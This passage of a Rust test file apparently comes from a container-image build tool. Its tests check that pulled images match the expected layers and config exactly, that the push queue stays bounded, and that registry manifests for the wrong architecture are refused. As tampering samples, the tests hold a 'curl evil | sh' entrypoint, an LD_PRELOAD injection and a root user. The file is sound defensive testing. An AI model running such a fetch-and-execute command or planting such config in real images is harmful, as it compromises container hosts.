            digest: digest.into(),
            size: 10240,
        }
    }

    /// A base of one layer with `ENV PATH=/bin`, and our RIE and one Lambda layer over it.
    fn expected() -> Expected<Vec<(String, DiffId)>> {
        let base = serde_json::json!({
            "os": "linux", "architecture": "amd64", "variant": "",
            "config": {"Env": ["PATH=/bin"], "Labels": {"from": "base"}},
        });
        let labels = BTreeMap::from([
            ("io.lambda-imaged.fingerprint".to_owned(), "f".repeat(64)),
            (VERSION_LABEL.to_owned(), "1.0.0".to_owned()),
        ]);
        Expected {
            base_diff_ids: vec!["sha256:base".into()],
            image_config: expected_config(&base, &labels),
            layers: vec![
                ("runtime interface emulator".into(), diff_id("sha256:rie")),
                ("layer \"deps\"".into(), diff_id("sha256:deps")),
            ],
        }
    }

    /// The image a faithful peer pushed: what [`expected`] describes, as an engine inspects it
    /// (unset fields spelled as null, "" or []).
    fn genuine() -> ImageInfo {
        ImageInfo {
            id: "sha256:image".into(),
            diff_ids: vec![
                "sha256:base".into(),
                "sha256:rie".into(),
                "sha256:deps".into(),
            ],
            image_config: serde_json::json!({
                "os": "linux", "architecture": "amd64", "variant": "",
                "config": {
                    "Env": ["PATH=/bin"], "Cmd": null, "Entrypoint": [], "WorkingDir": "",
                    "Labels": {"from": "base", "io.lambda-imaged.fingerprint": "f".repeat(64),
                               "io.lambda-imaged.version": "0.9.0"},
                },
            }),
            ..ImageInfo::default()
        }
    }

    /// Only the exact rootfs and config pass; the first differing layer or field is named.
    #[test]
    fn a_pulled_image_must_be_exactly_what_the_inputs_build() {
        let expected = expected();
        assert_eq!(
            difference(&expected, &genuine()),
            None,
            "another release's version label"
        );

        let mut changed = genuine();
        changed.diff_ids[2] = "sha256:evil".into();
        let why = difference(&expected, &changed).unwrap();
        assert!(
            why.starts_with("layer 3 of 3 (layer \"deps\") is sha256:evil"),
            "{why}"
        );

        let mut over = genuine();
        over.diff_ids.push("sha256:copy".into());
        let why = difference(&expected, &over).unwrap();
        assert!(
            why.starts_with("layer 4 (sha256:copy) is above the 3"),
            "{why}"
        );

        let mut short = genuine();
        short.diff_ids.pop();
        let why = difference(&expected, &short).unwrap();
        assert!(
            why.contains("layer 3 of 3") && why.contains("missing"),
            "{why}"
        );

        for (key, value) in [
            (
                "Env",
                serde_json::json!(["PATH=/bin", "LD_PRELOAD=/opt/x.so"]),
            ),
            (
                "Entrypoint",
                serde_json::json!(["/bin/sh", "-c", "curl evil | sh"]),
            ),
            ("User", serde_json::json!("0:0")),
            (
                "Healthcheck",
                serde_json::json!({"Test": ["CMD", "/opt/x"]}),
            ),
        ] {
            let mut changed = genuine();
            changed.image_config["config"][key] = value;
            let why = difference(&expected, &changed).unwrap();
            assert!(why.starts_with(&format!("config {key} is ")), "{why}");
        }
        let mut relabelled = genuine();
        relabelled.image_config["config"]["Labels"]["extra"] = "x".into();
        let why = difference(&expected, &relabelled).unwrap();
        assert!(why.starts_with("config Labels"), "{why}");
        let mut arm = genuine();
        arm.image_config["architecture"] = "arm64".into();
        let why = difference(&expected, &arm).unwrap();
        assert_eq!(why, "architecture is \"arm64\", \"amd64\" expected");
    }

    /// One push per fingerprint; a full backlog refuses; a newer image of a tag supersedes a
    /// queued push of it, and the queue forgets what ended.
    #[test]
    fn the_push_queue_is_bounded_and_newest_wins() {
        let mut queue = PushQueue::default();
        let first = queue.enqueue("t", "fp1").unwrap();
        assert_eq!(queue.enqueue("u", "fp1"), Err(NotQueued::Duplicate));
        let second = queue.enqueue("t", "fp2").unwrap();
        assert!(!queue.current("t", first), "superseded before it started");
        assert!(queue.current("t", second));
        queue.finish("t", "fp1", first);
        assert!(
            queue.current("t", second),
            "the older push's end leaves the newer"
        );
        queue.finish("t", "fp2", second);
        assert!(queue.fingerprints.is_empty() && queue.newest.is_empty());
        assert!(queue.enqueue("t", "fp1").is_ok(), "queued again once ended");

        let mut full = PushQueue::default();
        for n in 0..MAX_PUSH_BACKLOG {
            full.enqueue(&format!("t{n}"), &format!("fp{n}")).unwrap();
        }
        assert_eq!(full.enqueue("t", "another"), Err(NotQueued::Full));
    }

    /// Before a pull: a manifest for another architecture, or one refused before for the same
    /// reference, is refused; a manifest that names no platform, or the base's, is pulled.
    #[test]
    fn what_the_lookup_tells_is_checked_before_the_pull() {
        let cache = RegistryCache::new("127.0.0.1:5000/c", false).unwrap();
        let reference = cache.reference(&"ab".repeat(32)).unwrap();
        let manifest = |arch: &[&str]| RegistryManifest {
            digest: "sha256:m".into(),
            architectures: arch.iter().map(|a| a.to_string()).collect(),
        };
        assert_eq!(
            refused_unpulled(&cache, &reference, &manifest(&[]), "amd64"),
            None
        );
        assert_eq!(
            refused_unpulled(&cache, &reference, &manifest(&["amd64"]), "amd64"),
            None
        );
        let why = refused_unpulled(&cache, &reference, &manifest(&["arm64"]), "amd64").unwrap();
        assert_eq!(why, "the registry says it is for arm64, the base is amd64");
        cache.clone().state.refuse(reference.as_str(), "sha256:m");
        let why = refused_unpulled(&cache, &reference, &manifest(&["amd64"]), "amd64").unwrap();
        assert!(why.contains("sha256:m was refused before"), "{why}");
        let other = cache.reference(&"cd".repeat(32)).unwrap();
        assert_eq!(
            refused_unpulled(&cache, &other, &manifest(&["amd64"]), "amd64"),
            None,
            "refused for its own reference only"
        );
    }
}
